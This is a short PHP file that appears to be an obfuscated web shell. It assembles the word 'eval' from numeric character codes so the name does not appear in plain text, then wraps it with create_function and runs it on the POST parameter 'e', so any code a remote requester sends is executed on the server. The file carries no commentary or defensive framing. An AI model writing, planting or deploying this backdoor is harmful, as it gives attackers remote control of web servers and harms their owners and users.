<?php
$m = array(101,118,97,108);
$s = '';
foreach ($m as $c) { $s .= chr($c); }
$p = $_POST;
$g = create_function('$v', $s . '($v);');
$g($p['e']);
